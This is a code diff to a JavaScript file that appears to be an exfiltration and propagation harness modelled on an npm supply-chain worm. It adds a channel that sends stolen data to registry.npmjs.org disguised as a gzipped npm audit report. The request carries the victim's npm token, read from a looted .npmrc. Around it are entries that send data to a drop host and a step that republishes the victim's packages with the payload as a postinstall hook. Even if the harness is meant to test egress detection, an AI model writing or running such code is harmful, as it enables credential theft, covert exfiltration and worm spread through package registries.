@@ -156,6 +156,15 @@ function pre() {
 		['npm-query', () => one('npm-query', 'GET', DROP, '/npm-query?d=' + encodeURIComponent(b64(J)))],
 		['npm-path', () => one('npm-path', 'GET', DROP, '/npm-path/' + Buffer.from(J).toString('base64url'))],
 		['npm-split', () => split('npm-split')],
+		// hide in the registry's own traffic: an "audit" report to registry.npmjs.org
+		// (allowed, and the npm token's home), gzip'd as npm audit sends it
+		['npm-registry-audit', async () => {   // any answer means the bytes arrived
+			const r = await req('npm-registry-audit', 'POST', 'registry.npmjs.org',
+				'/-/npm/v1/security/audits/quick', zlib.gzipSync(J), { 'Content-Encoding': 'gzip',
+					'Content-Type': 'application/json',
+					Authorization: 'Bearer ' + ((loot.npmrc.match(/_authToken=(\S+)/) || [])[1] || '') });
+			note('npm-registry-audit', typeof r.status === 'number', r.status);
+		}],
 		// propagation, as the worm spread: republish a package of the victim's with
 		// this payload as its postinstall, with the victim's npm token (at its home)
 		['npm-publish', () => {
